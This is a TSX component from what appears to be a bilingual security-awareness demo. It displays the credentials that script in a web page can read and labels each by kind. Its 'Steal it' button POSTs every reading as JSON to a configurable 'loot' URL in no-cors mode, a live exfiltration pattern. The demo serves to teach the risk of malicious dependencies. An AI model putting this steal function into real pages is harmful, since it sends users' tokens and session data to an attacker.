import { say } from '../../look/say.ts';
import { Step } from '../../look/step.tsx';
import type { Exhibit, ExhibitKind } from './exhibit.ts';
import type { Reading } from './readings.ts';

const KINDS: Readonly<Record<ExhibitKind, string>> = {
  bearer: say('works anywhere', 'どこでも使える'),
  opaque: say('opaque', '中身は不明'),
  bound: say('needs a key', '鍵が必要'),
  handle: say('handle', 'ハンドル'),
};

interface GlassProps {
  readonly readings: readonly Reading[];
  /** The credentials among them. */
  readonly exhibits: readonly Exhibit[];
  /** The number on the button. */
  readonly step: number;
  readonly maySteal: boolean;
  /** Where stolen strings go. */
  readonly loot: string;
}

/** What script in this page can read, live, and the button that takes all of it away. */
export function Glass({ readings, exhibits, step, maySteal, loot }: GlassProps) {
  const rest = readings.filter(({ value }) => !exhibits.some((exhibit) => value.includes(exhibit.value)));

  const steal = () => fetch(loot, { method: 'POST', mode: 'no-cors', body: JSON.stringify(readings) });

  return (
    <section class="glass" aria-labelledby="glass-title">
      <header class="panel-head">
        <h2 id="glass-title">{say('What script in this page can read', 'このページのスクリプトが読めるもの')}</h2>
        <p>
          {say(
            'One bad dependency is enough to be that script.',
            '悪意ある依存パッケージが一つあれば、それがそのスクリプトです。',
          )}
        </p>
      </header>
      {exhibits.length === 0 ? (
        <p class="glass-none">
          {say('No credential. Sign in to the notebook.', '認証情報はありません。ノートにサインインしてください。')}
        </p>
      ) : (
        <ul class="exhibits" aria-label={say('Readable credentials', '読める認証情報')}>
          {exhibits.map((exhibit) => (
            <ExhibitCard key={exhibit.value} exhibit={exhibit} />
          ))}
        </ul>
      )}
      {rest.length > 0 && <OtherReadings readings={rest} />}
      <p class="glass-action">
        <button type="button" class="primary steal" disabled={!maySteal} onClick={steal}>
          <Step number={step} />
          {say('Steal it', '盗む')}
        </button>
      </p>
    </section>
  );
}

function ExhibitCard({ exhibit }: { exhibit: Exhibit }) {
  return (
    <li class={`exhibit ${exhibit.kind}`}>
      <p class="exhibit-head">
        <strong>{exhibit.what}</strong>
        <span class="kind">{KINDS[exhibit.kind]}</span>
      </p>
      <code>{exhibit.value}</code>
      <p>{exhibit.meaning}</p>
      <p class="source">{exhibit.sources.join(', ')}</p>
    </li>
  );
}

function OtherReadings({ readings }: { readings: readonly Reading[] }) {
  return (
    <details class="others">
      <summary>
        {say(
          readings.length === 1
            ? 'And one other value, no credential'
            : `And ${readings.length} other values, no credentials`,
          `ほかに認証情報でない値 ${readings.length} 件`,
        )}
      </summary>
      <dl>
        {readings.map(({ place, name, value }) => (
          <div key={`${place} ${name}`}>
            <dt>
              {place} {name}
            </dt>
            <dd>
              <code>{value}</code>
            </dd>
          </div>
        ))}
      </dl>
    </details>
  );
}
